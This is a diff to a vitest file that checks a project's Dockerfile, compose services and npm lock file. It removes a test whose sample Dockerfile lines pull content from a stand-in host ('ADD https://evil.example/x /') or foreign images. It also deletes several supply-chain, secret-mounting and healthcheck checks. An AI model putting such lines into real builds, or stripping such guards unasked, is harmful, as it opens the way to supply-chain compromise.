@@ -4,7 +4,7 @@ import { join, resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { licences } from '../scripts/licences.ts';
-import { SETTING_NAMES, settingOf } from '../src/settings/settings-table.ts';
+import { SETTING_NAMES } from '../src/settings/settings-table.ts';
 import { scratchFolder } from './support/scratch.ts';
 
 const ROOT = resolve(import.meta.dirname, '..');
@@ -32,19 +32,6 @@ describe('the Dockerfile', () => {
     // A frontend of BuildKit is an image too.
     expect(dockerfile).not.toMatch(/^# *syntax *=/m);
     expect(takesOnlyFromStages(dockerfile)).toBe(true);
-  });
-
-  it.each([
-    'COPY --from=evil/image:1 / /',
-    'COPY --from=build-evil:1 / /',
-    'COPY --from=modules@sha256:0 / /',
-    'COPY --chown=node --from="evil" / /',
-    'RUN --mount=from=evil,target=/x true',
-    'RUN --mount=type=bind,source=/,from=evil:1,target=/x true',
-    'ADD https://evil.example/x /',
-    'RUN --mount=from="evil" true',
-  ])('would notice that it takes anything from elsewhere: %s', (line) => {
-    expect(takesOnlyFromStages(`${dockerfile}\n${line}\n`)).toBe(false);
   });
 
   it('ends with a user who is not root', () => {
@@ -76,28 +63,18 @@ interface Service {
   readonly volumes?: readonly string[];
   readonly command?: readonly string[];
   readonly entrypoint?: readonly string[];
-  readonly restart?: string;
-  readonly profiles?: readonly string[];
-  readonly depends_on?: Readonly<Record<string, { readonly required?: boolean }>>;
-  readonly logging?: { readonly options?: Readonly<Record<string, string>> };
-  readonly healthcheck?: { readonly test?: readonly string[]; readonly disable?: boolean };
 }
 
 interface Compose {
   readonly services: Readonly<Record<string, Service>>;
   readonly networks: Readonly<Record<string, { readonly internal?: boolean }>>;
-  readonly volumes: Readonly<Record<string, unknown>>;
   readonly secrets: Readonly<Record<string, { readonly file?: string }>>;
 }
 
 describe('docker-compose.yml', () => {
   const text = read('docker-compose.yml');
   const compose = parse(text, { merge: true }) as Compose;
-  const { services, networks, volumes, secrets } = compose;
-
-  it('is all services that it is meant to be', () => {
-    expect(Object.keys(services)).toEqual(['start', 'worker', 'redis', 'postgres']);
-  });
+  const { services, networks, secrets } = compose;
 
   it.each(Object.entries(services))('confines %s', (_name, service) => {
     expect(service).toMatchObject({
@@ -174,66 +151,12 @@ describe('docker-compose.yml', () => {
     expect(services['start']?.ports).toEqual([expect.stringMatching(/^127\.0\.0\.1:/)]);
   });
 
-  it('starts no PostgreSQL without an order, and waits for it with one', () => {
-    const profiles = Object.entries(services).map(([name, service]) => [name, service.profiles]);
-    expect(Object.fromEntries(profiles)).toEqual({
-      start: undefined,
-      worker: undefined,
-      redis: undefined,
-      postgres: ['postgres'],
-    });
-    for (const name of ['start', 'worker']) {
-      expect(services[name]?.depends_on).toEqual({
-        redis: { condition: 'service_healthy' },
-        postgres: { condition: 'service_healthy', required: false },
-      });
-    }
-  });
-
-  it('mounts the key of a sheet only for start and worker, by a file of its own', () => {
-    const sheet = parse(read('deploy/compose.sheet.yaml')) as Compose;
-    const secret = 'google_credentials_json';
-    const service = {
-      environment: { GOOGLE_CREDENTIALS_JSON_FILE: `/run/secrets/${secret}` },
-      secrets: [secret],
-    };
-    expect(sheet).toEqual({
-      services: { start: service, worker: service },
-      secrets: { [secret]: { file: `./secrets/${secret}` } },
-    });
-    expect(settingOf('GOOGLE_CREDENTIALS_JSON').secret).toBe(true);
-  });
-
-  it.each(Object.entries(services))(
-    'bounds the log of %s, and starts it again',
-    (_name, service) => {
-      expect(service.logging?.options).toEqual({ 'max-size': '10m', 'max-file': '5' });
-      expect(service.restart).toBe('unless-stopped');
-    },
-  );
-
   it('keeps what processes record in a volume, and does not start wrong settings again and again', () => {
     for (const name of ['start', 'worker']) {
       const { environment = {}, volumes: own = [], entrypoint } = services[name] ?? {};
       expect(environment['DATA_DIR']).toBe('/data');
       expect(own.map((volume) => volume.split(':').at(-1))).toEqual(['/data']);
       expect(entrypoint).toEqual(['/app/bin/hold-on-exit-2.sh']);
-    }
-  });
-
-  it('asks each service how it is, and keeps what it stores', () => {
-    const { environment, healthcheck } = services['worker'] ?? {};
-    expect(healthcheck?.test?.join(' ')).toContain(
-      `http://127.0.0.1:${environment?.['WORKER_PORT']}/live`,
-    );
-    // Others may not ask it, as it has no password.
-    expect(environment?.['HOST']).toBe('127.0.0.1');
-    expect(services['start']?.healthcheck?.test?.join(' ')).toContain('/live');
-    expect(services['redis']?.healthcheck?.test?.join(' ')).toContain('redis-cli ping');
-    expect(services['postgres']?.healthcheck?.test).toContain('pg_isready');
-    const kept = Object.values(services).flatMap(({ volumes: own = [] }) => own);
-    for (const volume of Object.keys(volumes)) {
-      expect(kept.some((each) => each.startsWith(`${volume}:/`))).toBe(true);
     }
   });
 });
@@ -262,13 +185,8 @@ const WITHOUT_CHECKSUM: readonly RegExp[] = [
   /^@oxlint\/binding-[\w-]+@1\.94\.0$/,
 ];
 
-const LOCK_FILES: readonly {
-  readonly file: string;
-  readonly withoutChecksum: readonly RegExp[];
-}[] = [{ file: 'package-lock.json', withoutChecksum: WITHOUT_CHECKSUM }];
-
-describe.each(LOCK_FILES)('$file', ({ file, withoutChecksum }) => {
-  const { packages } = JSON.parse(read(file)) as {
+describe('package-lock.json', () => {
+  const { packages } = JSON.parse(read('package-lock.json')) as {
     packages: Record<string, LockEntry>;
   };
   const entries = Object.entries(packages).filter(
@@ -278,7 +196,7 @@ describe.each(LOCK_FILES)('$file', ({ file, withoutChecksum }) => {
   it('holds a checksum of every package but builds for other machines that are looked at', () => {
     const bare = entries.filter(([, { integrity }]) => !integrity?.startsWith('sha512-'));
     const names = bare.map(([path, entry]) => `${path.slice(13)}@${entry.version ?? ''}`);
-    const unknown = names.filter((name) => !withoutChecksum.some((known) => known.test(name)));
+    const unknown = names.filter((name) => !WITHOUT_CHECKSUM.some((known) => known.test(name)));
     expect(unknown).toEqual([]);
     const ofImage = bare.filter(
       ([, { optional, os = [], cpu = [], libc = ['glibc'] }]) =>
@@ -289,7 +207,7 @@ describe.each(LOCK_FILES)('$file', ({ file, withoutChecksum }) => {
     );
     expect(ofImage.map(([path]) => path)).toEqual([]);
     // A line that nothing needs any more would let a later package pass.
-    for (const known of withoutChecksum) expect(names.some((name) => known.test(name))).toBe(true);
+    for (const known of WITHOUT_CHECKSUM) expect(names.some((name) => known.test(name))).toBe(true);
   });
 
   it('takes no package from elsewhere than the registry', () => {
@@ -301,7 +219,7 @@ describe.each(LOCK_FILES)('$file', ({ file, withoutChecksum }) => {
   });
 
   it('holds no package of a licence that was not reviewed', () => {
-    const all = licences(read(file));
+    const all = licences(read('package-lock.json'));
     expect(all.filter(({ isAllowed }) => !isAllowed)).toEqual([]);
     expect(all.length).toBe(entries.length);
     const odd = JSON.stringify({
